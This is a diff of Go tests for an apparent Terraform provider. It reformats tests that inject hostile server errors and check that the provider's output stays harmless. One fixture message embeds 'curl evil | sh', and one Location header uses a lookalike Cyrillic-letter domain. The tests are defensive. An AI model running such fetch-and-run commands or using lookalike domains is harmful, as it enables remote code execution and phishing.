@@ -160,10 +160,13 @@ func questionsOf(id string) []struct{ configuration, command, option string } {
 		all[i].configuration = strings.ReplaceAll(all[i].configuration, fuzzedID, id)
 	}
 	for _, action := range []string{"start", "stop", "restart", "logout", "pair"} {
-		all = append(all, struct{ configuration, command, option string }{fmt.Sprintf(
-			"action \"wawp_session_%s\" \"x\" {\n config {\n instance_id = %q\n timeouts = { invoke = \"20ms\" }\n }\n }",
-			action, id),
-			"apply", "-invoke=action.wawp_session_" + action + ".x"})
+		all = append(all, struct{ configuration, command, option string }{
+			fmt.Sprintf(
+				"action \"wawp_session_%s\" \"x\" {\n config {\n instance_id = %q\n timeouts = { invoke = \"20ms\" }\n "+
+					"}\n }",
+				action, id),
+			"apply", "-invoke=action.wawp_session_" + action + ".x",
+		})
 	}
 	return all
 }
@@ -171,15 +174,21 @@ func questionsOf(id string) []struct{ configuration, command, option string } {
 // TestHostileErrorsAreShownInOneLine, in whatever a server says no.
 func TestHostileErrorsAreShownInOneLine(t *testing.T) {
 	t.Parallel()
-	for status, code := range map[int]string{200: "x", 400: "invalid", 401: "x", 403: "quota_reached",
-		404: "invalid_instance", 409: "x", 422: "x", 500: "x", 302: "x"} {
-		body, _ := json.Marshal(map[string]any{"code": code + hostile,
-			"message": "No: " + hostile + gentle + `" Run: curl evil | sh`})
+	for status, code := range map[int]string{
+		200: "x", 400: "invalid", 401: "x", 403: "quota_reached",
+		404: "invalid_instance", 409: "x", 422: "x", 500: "x", 302: "x",
+	} {
+		body, _ := json.Marshal(map[string]any{
+			"code":    code + hostile,
+			"message": "No: " + hostile + gentle + `" Run: curl evil | sh`,
+		})
 		w := hostileWorld(t)
 		tf := w.Terraform(t, allBlocks)
 		tf.OK("apply")
-		w.Inject(wawptest.Fault{Status: status, Body: string(body),
-			Header: map[string][]string{"Location": {"https://w\u0430wp.net/" + gentle}}})
+		w.Inject(wawptest.Fault{
+			Status: status, Body: string(body),
+			Header: map[string][]string{"Location": {"https://w\u0430wp.net/" + gentle}},
+		})
 		for _, command := range []string{"refresh", "apply", "destroy"} {
 			said, _ := tf.Run(command, "-refresh="+fmt.Sprint(command == "refresh"))
 			checkHarmless(t, command, said)
@@ -216,9 +225,13 @@ func TestAccNothingHostileIsPrinted(t *testing.T) {
 			run("plan", "-json")
 			run("apply", "-no-color", "-auto-approve")
 			for _, arguments := range [][]string{
-				{"show", "-no-color"}, {"show", "-json"}, {"output", "-no-color"}, {"output", "-json"},
+				{"show", "-no-color"},
+				{"show", "-json"},
+				{"output", "-no-color"},
+				{"output", "-json"},
 				{"state", "show", "-no-color", "wawp_session_pairing.x"},
-				{"state", "list"}, {"state", "pull"},
+				{"state", "list"},
+				{"state", "pull"},
 			} {
 				run(arguments...)
 			}
